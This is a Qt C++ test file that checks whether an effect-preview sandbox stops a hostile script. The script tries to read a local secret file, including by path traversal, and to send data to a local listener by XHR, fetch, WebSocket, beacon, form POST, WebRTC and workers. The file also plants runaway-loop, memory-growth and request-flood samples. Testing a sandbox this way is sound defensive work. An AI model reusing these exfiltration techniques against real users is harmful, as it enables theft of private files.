// A stranger's effect in the previews: whatever it tries, it reads no file outside its scratch folder
// and reaches no address, in the effect panel and in each setup window; the preview's line says what
// was refused. An effect that runs away is stopped and the next one shows.
#include "mainwindowfixture.h"
#include "pagereading.h"

#include "app/effectpanelpreview.h"
#include "effects/effectpreviewpane.h"
#include "effects/imageeffectwindow.h"
#include "effects/menueffectwindow.h"
#include "effects/texteffectwindow.h"
#include "widgets/flatcombobox.h"

#include <QImage>
#include <QNetworkDatagram>
#include <QTcpServer>
#include <QTcpSocket>
#include <QUdpSocket>

#include <algorithm>

using namespace Qt::StringLiterals;

namespace {
const QString Category = u"测试"_s;
const QByteArray Secret = "SECRET-7f3a-private";

// Tries every way out it knows, records in `leaks` what came back with a secret, then says it is done
// in the title. PORT, UDPPORT and OUTSIDE are filled in by the test.
const char *const HostileScript = R"JS(
var leaks = [];
var outside = 'OUTSIDE';
var listener = 'http://127.0.0.1:PORT/';
function leak(what, text) {
  text = String(text || '');
  if (text.indexOf('SECRET-7f3a') >= 0 || text.indexOf('[system]') >= 0 || text.indexOf('secret.txt') >= 0)
    leaks.push(what);
}
function quietly(f) { try { f(); } catch (e) {} }
quietly(function () {
  var x = new XMLHttpRequest(); x.open('GET', outside + 'secret.txt', false); x.send(); leak('xhr', x.responseText);
});
quietly(function () {
  var x = new XMLHttpRequest(); x.open('GET', outside + 'LINK2.INI', false); x.send(); leak('xhr-index', x.responseText);
});
quietly(function () {
  var x = new XMLHttpRequest(); x.open('GET', '/../../../../../..' + outside.substring(7) + 'secret.txt', false);
  x.send(); leak('xhr-up', x.responseText);
});
quietly(function () { fetch(outside + 'secret.txt').then(function (r) { return r.text(); }).then(function (t) { leak('fetch', t); }).catch(function () {}); });
quietly(function () { fetch(outside).then(function (r) { return r.text(); }).then(function (t) { leak('listing', t); }).catch(function () {}); });
quietly(function () {
  var f = document.createElement('iframe');
  f.onload = function () { quietly(function () { leak('iframe', f.contentDocument.documentElement.outerHTML); }); };
  f.src = outside + 'secret.txt'; document.body.appendChild(f);
});
quietly(function () {
  var i = new Image(); i.onload = function () { if (i.naturalWidth > 0) leaks.push('img'); }; i.src = outside + 'pic.png';
});
quietly(function () {
  var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = outside + 'probe.css'; document.head.appendChild(l);
  var s = document.createElement('script'); s.src = outside + 'probe.js'; document.head.appendChild(s);
  var d = document.createElement('div'); d.id = 'probe'; document.body.appendChild(d);
  var c = document.createElement('div');
  c.style.backgroundImage = 'url(' + outside + 'pic.png), url(' + listener + 'css-url)'; document.body.appendChild(c);
});
quietly(function () { new WebSocket('ws://127.0.0.1:PORT/socket?d=' + encodeURIComponent(JSON.stringify(leaks))); });
quietly(function () { fetch(listener + 'fetch').catch(function () {}); });
quietly(function () { fetch('https://127.0.0.1:PORT/https').catch(function () {}); });
quietly(function () { var x = new XMLHttpRequest(); x.open('GET', listener + 'xhr'); x.send(); });
quietly(function () { navigator.sendBeacon(listener + 'beacon', 'x'); });
quietly(function () { window.open(listener + 'window'); });
quietly(function () { var i = new Image(); i.src = listener + 'img'; });
quietly(function () {
  var f = document.createElement('iframe'); f.src = listener + 'frame'; document.body.appendChild(f);
});
quietly(function () {
  var sink = document.createElement('iframe'); sink.name = 'sink'; document.body.appendChild(sink);
  var form = document.createElement('form'); form.method = 'POST'; form.action = listener + 'form'; form.target = 'sink';
  var field = document.createElement('input'); field.name = 'd'; field.value = 'x'; form.appendChild(field);
  document.body.appendChild(form); form.submit();
});
quietly(function () {
  ['prefetch', 'preload', 'preconnect', 'dns-prefetch'].forEach(function (rel) {
    var l = document.createElement('link'); l.rel = rel; l.href = listener + rel; if (rel == 'preload') l.as = 'fetch';
    document.head.appendChild(l);
  });
});
quietly(function () {
  var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDPPORT' }] });
  pc.createDataChannel('d'); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(function () {});
});
quietly(function () { new Worker('worker.js'); });
quietly(function () {
  var blank = document.createElement('iframe'); document.body.appendChild(blank);
  var w = blank.contentWindow;
  quietly(function () { new w.WebSocket('ws://127.0.0.1:PORT/blank'); });
  quietly(function () { w.fetch(listener + 'blank-fetch').catch(function () {}); });
  quietly(function () {
    var pc = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDPPORT' }] });
    pc.createDataChannel('d'); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(function () {});
  });
});
quietly(function () { var a = document.createElement('a'); a.href = listener + 'link'; document.body.appendChild(a); a.click(); });
quietly(function () { location.href = listener + 'navigate'; });
setTimeout(function () {
  quietly(function () { if (getComputedStyle(document.getElementById('probe')).width == '77px') leaks.push('css'); });
  if (window.probeRan) leaks.push('script');
  document.title = 'done:' + JSON.stringify(leaks);
}, 1500);
)JS";

const QString ImageDefinition = u"[file]\nimgfilet=1\nimgfilename1=0\ntxtfilet=2\ntxtfilename1=fx.js\n"
                                "txtfilename2=worker.js\nft=1\nfno1=script.txt\nintop1='<img id=\"pic\" src=\"'\n"
                                "inbu1='\"'\nimmtop1=\nimmbu1='\">'\n[abcd]\ntotal=3\nopen1=fno1\nopen2=inname1\n"
                                "open3=imain1\n"_s;
const QString MenuDefinition = u"[file]\nimgfilet=0\ntxtfilet=2\ntxtfilename1=fx.js\ntxtfilename2=worker.js\nmm=0\n"
                               "lino=0\ntxty=0\nft=1\nfno1=script.txt\nlitop='<a class=\"item\" href=\"'\nlibu='\">'\n"
                               "catop=\ncabu=</a>\n[list]\ntotal=2\nlist1=txtli\nlist2=txtca\n[abcd]\ntotal=2\n"
                               "open1=fno1\nopen2=list\n"_s;
const QString TextDefinition = u"[file]\nimgfilet=0\ntxtfilet=2\ntxtfilename1=fx.js\ntxtfilename2=worker.js\nft=1\n"
                               "fno1=script.txt\ntxttop='<p class=\"row\">'\ntxtbu=</p>\n[list]\ntotal=1\nlist1=txt\n"
                               "[abcd]\ntotal=2\nopen1=fno1\nopen2=list\n"_s;
}

class TestPreviewSandbox : public QObject
{
    Q_OBJECT

    // Everything that reaches the test's own addresses on this machine.
    struct Listener
    {
        QTcpServer tcp;
        QUdpSocket udp;
        QStringList heard;

        Listener()
        {
            QVERIFY(tcp.listen(QHostAddress::LocalHost));
            QVERIFY(udp.bind(QHostAddress::LocalHost, 0));
            QObject::connect(&tcp, &QTcpServer::newConnection, [this] {
                while (QTcpSocket *socket = tcp.nextPendingConnection()) {
                    heard << u"tcp connection"_s;
                    QObject::connect(socket, &QTcpSocket::readyRead, socket,
                        [this, socket] { heard << QString::fromLatin1(socket->readAll().left(200)); });
                }
            });
            QObject::connect(&udp, &QUdpSocket::readyRead, [this] {
                while (udp.hasPendingDatagrams()) {
                    udp.receiveDatagram();
                    heard << u"udp datagram"_s;
                }
            });
        }
    };

    struct Run
    {
        MainWindowFixture f;
        Listener listener;
        bool parentMenuNeeded = true;
        std::unique_ptr<SetupWindow> window;

        QString outside() const { return f.folder() + u"private/"_s; }

        Run()
        {
            f.previews = true;
            f.putText(u"lines.txt"_s, u"<html><head><meta charset=\"gb2312\"></head><body>\r\n</body></html>\r\n"_s);
            f.putText(u"LINK1.INI"_s, u"[COMBOX]\r\nTOTAL=1\r\nL1=测试\r\n"_s);
            f.putText(u"LINK2.INI"_s,
                u"[测试]\r\nTOTAL=9\r\nl1=图像\r\nl2=菜单\r\nl3=文字\r\nl4=复制\r\nl5=循环\r\nl6=内存\r\n"
                "l7=写入\r\nl8=正常\r\nl9=洪水\r\n[system]\r\n测试图像=2\r\n测试菜单=3\r\n测试文字=4\r\n"
                "测试复制=1\r\n测试循环=1\r\n测试内存=1\r\n测试写入=1\r\n测试正常=1\r\n测试洪水=1\r\n"_s);
            const QString script = QString::fromLatin1(HostileScript)
                                       .replace(u"UDPPORT"_s, QString::number(listener.udp.localPort()))
                                       .replace(u"PORT"_s, QString::number(listener.tcp.serverPort()))
                                       .replace(u"OUTSIDE"_s, QUrl::fromLocalFile(outside()).toString());
            f.putText(Category + u"/fx.js"_s, script);
            f.putText(Category + u"/worker.js"_s,
                u"new WebSocket('ws://127.0.0.1:%1/worker');\n"_s.arg(listener.tcp.serverPort()));
            f.putText(Category + u"/script.txt"_s, u"<script src=\"fx.js\"></script>\n"_s);
            f.putText(Category + u"/图像"_s, ImageDefinition);
            f.putText(Category + u"/菜单"_s, MenuDefinition);
            f.putText(Category + u"/文字"_s, TextDefinition);
            f.putText(Category + u"/复制.txt"_s, u"<script>\n"_s + script + u"</script>\n"_s);
            f.putText(Category + u"/循环.txt"_s, u"<script>while (true) {}</script>\n"_s);
            // Grows by 64 MB ten times a second and answers all the while.
            f.putText(Category + u"/内存.txt"_s,
                u"<script>var kept = []; setInterval(function () {\n"
                "  kept.push(new Float64Array(8 * 1024 * 1024).fill(1)); }, 100);</script>\n"_s);
            f.putText(
                Category + u"/写入.txt"_s, u"<script>document.write('x'.repeat(100 * 1024 * 1024));</script>\n"_s);
            f.putText(Category + u"/正常.txt"_s, u"<b id=\"fine\">正常</b>\n"_s);
            // Knocks at a thousand addresses and fails a thousand times, then says it is done.
            f.putText(Category + u"/洪水.txt"_s,
                u"<script>for (var i = 0; i < 1000; ++i) { fetch('http://127.0.0.1:9/' + i).catch(function () {}); "
                "setTimeout(function () { undefinedFunction(); }, 0); }\n"
                "setTimeout(function () { document.title = 'done'; }, 500);</script>\n"_s);
            TestFiles::write(outside() + u"secret.txt"_s, Secret);
            TestFiles::write(outside() + u"probe.css"_s, "#probe { width: 77px }");
            TestFiles::write(outside() + u"probe.js"_s, "window.probeRan = 1;");
            QImage picture(20, 10, QImage::Format_RGB32);
            picture.fill(Qt::green);
            QVERIFY(picture.save(outside() + u"pic.png"_s));
            QImage sample(32, 24, QImage::Format_RGB32);
            sample.fill(Qt::red);
            QDir().mkpath(f.folder() + u"示例图片"_s);
            QVERIFY(sample.save(f.folder() + u"示例图片/示例1.jpg"_s));
            f.create();
        }

        EffectPreviewPane &open(const QString &kind)
        {
            const QString effect = kind == u"image"_s ? u"图像"_s : kind == u"menu"_s ? u"菜单"_s : u"文字"_s;
            const SetupContext context = f.setupContext(Category, effect, &parentMenuNeeded);
            SetupWindow *made = kind == u"image"_s ? static_cast<SetupWindow *>(new ImageEffectWindow(context))
                : kind == u"menu"_s                ? static_cast<SetupWindow *>(new MenuEffectWindow(context))
                                                   : static_cast<SetupWindow *>(new TextEffectWindow(context));
            window.reset(made);
            made->show();
            return *made->preview();
        }

        EffectPreviewPane &choose(const QString &effect)
        {
            MainWindow &w = *f.window;
            w.show();
            auto *categories = control<FlatComboBox>(w, u"ComboBox1"_s);
            categories->setCurrentIndex(0);
            emit categories->activated(0);
            auto *effects = control<FlatComboBox>(w, u"ComboBox3"_s);
            const int index = effects->findText(effect);
            effects->setCurrentIndex(index);
            emit effects->activated(index);
            return *control<EffectPanelPreview>(w, u"PanelPreview"_s)->pane();
        }
    };

    static QString read(EffectPreviewPane &pane, const QString &expression) { return readInPage(pane, expression); }

    static void checkNothingGotOut(Run &run, EffectPreviewPane &pane)
    {
        QTRY_VERIFY_WITH_TIMEOUT(read(pane, u"document.title"_s).startsWith(u"done:"_s), 30000);
        // The line says what was refused, each refusal once, and takes none of them for a script error.
        // Waiting for every refusal to be said lets the connections the page started last reach the
        // sandbox before the listener is asked what it heard.
        const QString port = QString::number(run.listener.tcp.serverPort());
        const QStringList refusals { u"读取本机文件 "_s + run.outside() + u"secret.txt"_s,
            u"读取本机文件 "_s + run.outside() + u"LINK2.INI"_s, u"WebSocket ws://127.0.0.1:%1/socket"_s.arg(port),
            u"数据请求 http://127.0.0.1:%1/fetch"_s.arg(port), u"后台脚本 vellumo-preview://effect/worker.js"_s,
            u"跳转到 http://127.0.0.1:%1/navigate"_s.arg(port) };
        const auto allSaid = [&] {
            const QStringList said = pane.fullLine().split(u'\n');
            return std::all_of(refusals.begin(), refusals.end(),
                [&](const QString &refusal) { return said.contains(u"已阻止："_s + refusal); });
        };
        QTRY_VERIFY2_WITH_TIMEOUT(allSaid(), qPrintable(pane.fullLine()), 10000);
        const QString title = read(pane, u"document.title"_s);
        QVERIFY2(title == u"done:[]"_s && run.listener.heard.isEmpty(),
            qPrintable(u"read: "_s + title + u"\nheard: "_s + run.listener.heard.join(u" | "_s)));
        QVERIFY(!read(pane, u"document.documentElement.outerHTML"_s).contains(QString::fromLatin1(Secret)));
        QVERIFY(read(pane, u"location.pathname"_s).endsWith(u"/preview.htm"_s));
        QVERIFY(run.f.dialogs.calls.isEmpty());
        QVERIFY2(pane.line().startsWith(u"已阻止（"_s), qPrintable(pane.line()));
        const QStringList said = pane.fullLine().split(u'\n');
        for (const QString &refusal : refusals)
            QVERIFY2(said.count(u"已阻止："_s + refusal) == 1, qPrintable(refusal + u"\n"_s + pane.fullLine()));
        QVERIFY2(!pane.fullLine().contains(u"脚本错误"_s), qPrintable(pane.fullLine()));
    }

private slots:
    void aRunawayEffectIsStoppedAndTheNextShows_data()
    {
        QTest::addColumn<QString>("effect");
        QTest::addColumn<QString>("line");
        QTest::newRow("endless loop") << u"循环"_s << u"特效运行过久，已停止预览"_s;
        QTest::newRow("growing") << u"内存"_s << u"特效占用内存过多，已停止预览"_s;
        QTest::newRow("writing itself") << u"写入"_s << QString();
    }

    void aRunawayEffectIsStoppedAndTheNextShows()
    {
        QFETCH(QString, effect);
        QFETCH(QString, line);
        Run run;
        EffectPreviewPane &pane = run.choose(u"正常"_s);
        QTRY_COMPARE_WITH_TIMEOUT(pane.line(), u"没有脚本错误。"_s, 30000);
        run.choose(effect);
        // The last effect's line does not stay under a page that is not there yet.
        if (effect == u"循环"_s)
            QTRY_COMPARE_WITH_TIMEOUT(pane.line(), u"正在载入预览……"_s, 30000);
        QTRY_VERIFY_WITH_TIMEOUT(pane.line().endsWith(u"已停止预览"_s), 30000);
        // A page that writes itself without end may be stopped for either reason.
        if (!line.isEmpty())
            QCOMPARE(pane.line(), line);
        // The preview itself says so too, in a page of a new process.
        QTRY_COMPARE_WITH_TIMEOUT(
            read(pane, u"document.getElementById('vellumo-preview-problem').textContent"_s), pane.line(), 30000);
        run.choose(u"正常"_s);
        QTRY_COMPARE_WITH_TIMEOUT(read(pane, u"document.getElementById('fine').textContent"_s), u"正常"_s, 30000);
        QTRY_COMPARE_WITH_TIMEOUT(pane.line(), u"没有脚本错误。"_s, 10000);
    }

    // A flood of refusals and errors is counted, not listed without end.
    void aFloodOfRefusalsIsCountedNotListed()
    {
        Run run;
        EffectPreviewPane &pane = run.choose(u"洪水"_s);
        QTRY_COMPARE_WITH_TIMEOUT(read(pane, u"document.title"_s), u"done"_s, 30000);
        QTRY_VERIFY2_WITH_TIMEOUT(pane.line().startsWith(u"已阻止（1000项）："_s), qPrintable(pane.line()), 10000);
        QTRY_VERIFY_WITH_TIMEOUT(pane.line().contains(u"脚本错误（1000个）"_s), 10000);
        const QStringList said = pane.fullLine().split(u'\n');
        QCOMPARE(said.size(), 50 + 1 + 50 + 1);
        QCOMPARE(said[50], u"另有950项被阻止"_s);
        QCOMPARE(said.last(), u"另有950个脚本错误"_s);
    }

    void aSetupWindowsPreviewReadsNothingAndSendsNothing_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::newRow("image") << u"image"_s;
        QTest::newRow("menu") << u"menu"_s;
        QTest::newRow("text") << u"text"_s;
    }

    void aSetupWindowsPreviewReadsNothingAndSendsNothing()
    {
        QFETCH(QString, kind);
        Run run;
        EffectPreviewPane &pane = run.open(kind);
        checkNothingGotOut(run, pane);
    }

    void thePanelPreviewReadsNothingAndSendsNothing()
    {
        Run run;
        EffectPreviewPane &pane = run.choose(u"复制"_s);
        checkNothingGotOut(run, pane);
    }
};

// The browser engine, loaded as a module, needs the shared OpenGL contexts that the program's
// start-up asks for before the application object is made.
int main(int argc, char **argv)
{
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    QApplication app(argc, argv);
    TestPreviewSandbox test;
    QTEST_SET_MAIN_SOURCE_PATH
    return QTest::qExec(&test, argc, argv);
}
#include "tst_previewsandbox.moc"
